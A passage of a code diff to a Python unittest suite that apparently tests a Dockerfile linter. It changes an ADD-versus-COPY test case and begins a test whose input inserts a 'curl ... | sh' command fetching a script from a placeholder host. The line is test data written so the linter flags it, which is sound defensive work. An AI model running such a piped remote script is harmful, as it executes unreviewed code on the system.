@@ -106,7 +106,7 @@ class BrokenDockerfile(unittest.TestCase):
         self.assertFlags(edited("librdkafka1 \\", "librdkafka-dev \\"), "build tool/package librdkafka-dev")
 
     def test_add_instead_of_copy(self):
-        self.assertFlags(edited("COPY probes probes", "ADD probes probes"), "ADD")
+        self.assertFlags(edited("COPY . .", "ADD . ."), "ADD")
 
     def test_curl_pipe_shell(self):
         self.assertFlags(edited("&& scripts/test", "&& curl -fsSL https://example.invalid/x | sh && scripts/test"),
